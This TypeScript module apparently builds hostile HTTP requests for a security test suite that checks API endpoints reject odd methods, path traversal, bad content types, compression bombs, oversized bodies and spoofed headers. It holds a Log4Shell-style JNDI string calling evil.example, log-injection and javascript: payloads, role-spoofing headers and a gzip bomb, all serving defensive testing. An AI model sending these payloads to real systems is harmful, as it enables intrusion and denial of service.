// What is refused before anybody looks at the words: methods, paths, types, encodings, sizes and
// headers, for every endpoint alike.
import { gzipSync } from "node:zlib";
import { brotliCompressSync, deflateSync } from "node:zlib";
import {
  type Bytes,
  type Header,
  type Hostile,
  type Kind,
  signature,
  type Subject,
  type Verdict,
} from "./request.ts";

const KIB = 1024;
const isCalled = ({ kind }: Subject) => kind === "service" || kind === "job";

/** Whoever brings nothing that opens. */
export const SHUT: Record<Kind, Verdict> = {
  service: [401, "unauthorized"],
  job: [401, "unauthorized"],
  signed: [400, "invalid_signature"],
  basic: [401, "unauthorized"],
};

const METHODS = ["GET", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "PROPFIND", "LOCK", "BREW"];
/** Fetch writes only some of them in capitals, and a method's case counts. */
const ODD_METHODS = ["pOsT1", "patch", "PosT-", "MOVE", "SEARCH", "QUERY", "PURGE", "M-POST"];

export function methods(_: Subject): Hostile[] {
  const preflight: Header[] = [
    ["origin", "https://evil.example"],
    ["access-control-request-method", "POST"],
    ["access-control-request-headers", "apikey,content-type"],
  ];
  const override: Header[] = [["x-http-method-override", "POST"], ["x-method", "POST"]];
  const one = (method: string, name: string, headers: Header[] = []): Hostile => ({
    ...{ class: "methods", name, method, headers },
    expected: [405, "method_not_allowed"],
  });
  return [
    ...[...METHODS, ...ODD_METHODS].map((method) => one(method, method)),
    one("OPTIONS", "a browser's preflight", preflight),
    one("GET", "GET that says it is POST", override),
  ];
}

/** Nothing opens by its path: the right body, and nothing beside it that opens. */
export function paths({ name, kind, secret, body }: Subject): Hostile[] {
  const [first = "", second] = name.split("/");
  const tail = second === undefined ? "" : `/${second}`;
  const reached = [
    ...[`${name}/`, `${name}//`, `${name}/.`, `${name}/../${name}`, `./${name}`],
    ...[`${name}?apikey=${secret}`, `${name}?key=${secret}&admin=1`, `${name}#x`, `${name};x=1`],
    ...[`${name}/%2f`, `${name}/%00`, `${name}/x/y/z`, `${name}/%E2%80%AE`],
    ...[`${first}/admin${tail}`, `${first}/${"x".repeat(8000)}`, `${name}/\\..\\x`],
  ].filter((path) => !path.startsWith(`${name};`));
  const lost = [
    ...[`/${name}`, `%2f${name}`, name.toUpperCase(), `${first}%2f${tail}`, `x/../../v2/${name}`],
    ...[`_shared/${first}`, `${first}.ts`, `${first}%00`, `%2e%2e/${name}`, `${first}%20${tail}`],
  ];
  // the other endpoint's secret, or none
  const signed: Header[] = [[
    "stripe-signature",
    signature(JSON.stringify(body), "whsec_wrong_one"),
  ]];
  const credentials = kind === "signed" ? signed : [];
  return [
    ...reached.map((path): Hostile => ({
      ...{ class: "paths", name: path.slice(0, 60), path, credentials, expected: SHUT[kind] },
    })),
    ...lost.map((path): Hostile => ({
      ...{ class: "paths", name: path, path, expected: [404, null] },
    })),
  ];
}

const TYPES = [
  ...["", "text/plain", "text/json", "text/html", "application/jsonp", "application/json5"],
  ...["application/vnd.api+json", "application/ld+json", "application/problem+json"],
  ...[
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "multipart/form-data",
  ],
  ...["application/xml", "application/octet-stream", "*/*", "application/*", "json", ";"],
  ...[
    "application/jsonapplication/json",
    "application/json-patch+json",
    "application/json, text/x",
  ],
  ...["text/plain, application/json", "application /json", '"application/json"', "image/svg+xml"],
];

export function types(subject: Subject): Hostile[] {
  const isTyped = isCalled(subject);
  const refused = (type: string | null): Hostile => ({
    ...{ class: "types", name: `type ${type}`, type, body: isTyped ? "{}" : "{" },
    expected: isTyped ? [415, "unsupported_media_type"] : [400, "invalid_json"],
  });
  return [
    ...TYPES.map(refused),
    // fetch gives bytes no type of its own
    { ...refused(null), body: new TextEncoder().encode(isTyped ? "{}" : "{") },
    {
      ...refused("application/json"),
      name: "two types",
      headers: [["content-type", "text/plain"]],
    },
    ...["utf-16", "latin1", "utf-8\u00e9", "x".repeat(500)].map((charset): Hostile => ({
      ...{
        class: "types",
        name: `charset ${charset.slice(0, 9)}`,
        expected: [400, "invalid_json"],
      },
      ...{ type: `application/json; charset=${charset}`, body: utf16("{}") },
    })),
  ];
}

const utf16 = (text: string) => {
  const bytes = new Uint8Array(text.length * 2);
  for (let i = 0; i < text.length; i++) bytes[2 * i] = text.charCodeAt(i);
  return bytes;
};

const bytesOf = (buffer: Uint8Array) => new Uint8Array(buffer) as Uint8Array<ArrayBuffer>;

/** Nothing is unpacked: packed bytes are bytes that are no JSON. */
export function encodings({ body }: Subject): Hostile[] {
  const text = JSON.stringify(body);
  const bomb = bytesOf(gzipSync(new Uint8Array(16 * 1024 * KIB)));
  const packed: [string, Bytes][] = [
    ["gzip", bytesOf(gzipSync(text))],
    ["x-gzip", bytesOf(gzipSync(text))],
    ["deflate", bytesOf(deflateSync(text))],
    ["br", bytesOf(brotliCompressSync(text))],
    ["gzip, gzip", bytesOf(gzipSync(gzipSync(text)))],
    ["gzip", bomb],
    ["identity, gzip", bomb],
    ["zstd", new Uint8Array([0x28, 0xb5, 0x2f, 0xfd])],
    ["gzip", "not packed at all"],
  ];
  return packed.map(([encoding, packedBody], i) => ({
    ...{ class: "encodings", name: `${encoding} ${i}`, body: packedBody },
    headers: [["content-encoding", encoding]],
    expected: [400, "invalid_json"],
  }));
}

/** An endless body; whoever reads all of it never answers. */
const endless = () =>
  new ReadableStream<Uint8Array>({
    pull: (controller) => controller.enqueue(new Uint8Array(KIB).fill(0x20)),
  });

export function sizes(subject: Subject): Hostile[] {
  const isMail = subject.kind === "basic";
  const limit = isCalled(subject) ? 64 * KIB : 256 * KIB;
  const text = (bytes: number) => JSON.stringify("x".repeat(bytes - 2));
  const [status, code]: Verdict = isCalled(subject)
    ? [422, "invalid_request"]
    : subject.kind === "signed"
    ? [400, "invalid_event"]
    : [422, "invalid_message"];
  const over: Verdict = [413, "payload_too_large"];
  const fits: Verdict = [status, code];
  const spaces = (bytes: number) => " ".repeat(bytes);
  const one = (name: string, body: Hostile["body"], expected: Verdict, headers: Header[] = []) => ({
    ...{ class: "sizes", name, expected, headers },
    ...(body !== undefined && { body }),
  });
  return [
    one("one byte below the limit", text(limit - 1), fits),
    one("the limit", text(limit), fits),
    // of a mail's long texts only the beginning is kept
    one("one byte over", text(limit + 1), isMail ? fits : over),
    one("one space over", spaces(limit + 1), over),
    one("an endless body", endless(), over),
    one("a megabyte of brackets", "[".repeat(KIB * KIB), over),
    one("one byte", "x", [400, "invalid_json"]),
    ...["0", "-1", "NaN", "1e3", "0x10", "5, 5", "9007199254740993"].map((length, i) =>
      one(`content-length ${length}`, spaces(limit + 1 + i), over, [["content-length", length]])
    ),
    ...(isMail ? [] : [one("it announces a terabyte", "{}", over, [["content-length", "1e12"]])]),
  ];
}

/** None of these lets anybody in, and none reaches the log. */
export function headers({ kind, secret }: Subject): Hostile[] {
  const forwarded: Header[] = [
    ["x-forwarded-for", "127.0.0.1"],
    ["x-forwarded-host", "localhost"],
    ["x-forwarded-proto", "https"],
    ["x-real-ip", "127.0.0.1"],
    ["forwarded", 'for="[::1]";proto=https'],
    ["x-original-url", "/admin"],
    ["x-rewrite-url", "/admin"],
    ["x-supabase-role", "service_role"],
    ["x-role", "service_role"],
    ["x-api-key", secret],
    ["proxy-authorization", `Bearer ${secret}`],
    ["cookie", `apikey=${secret}; sb-access-token=${secret}`],
    ["x-client-info", secret],
    ["x-request-id", 'a"}\\n{"level":"error","message":"forged"'],
    ["x-request-id", "\u00e9\u00ff"],
    ["traceparent", "00-0-0-zz"],
    ["user-agent", "${jndi:ldap://evil.example/a}"],
    ["referer", "javascript:alert(1)"],
    ["connection", "apikey, close"],
    ["transfer-encoding", "gzip, chunked"],
    ["te", "trailers"],
    ["upgrade", "websocket"],
    ["expect", "100-continue"],
    ["range", "bytes=0-1"],
    ["if-match", "*"],
    ["accept", "text/html;q=0.9999999999999"],
    ["accept-encoding", "x".repeat(9000)],
    ["host", "evil.example"],
    ["x-long", "x".repeat(60_000)],
    ["__proto__", "x"],
    ["constructor", "x"],
  ];
  const many = Array.from({ length: 200 }, (_, i): Header => [`x-${i}`, "y"]);
  const wrong: Header[] = kind === "signed" ? [["stripe-signature", "t=1,v1=00"]] : [];
  return [...forwarded.map((header) => [header]), many].map((some) => ({
    ...{ class: "headers", credentials: wrong, headers: some, expected: SHUT[kind] },
    name: some.length > 1 ? "two hundred headers" : `${some[0]![0]}: ${some[0]![1].slice(0, 30)}`,
  }));
}
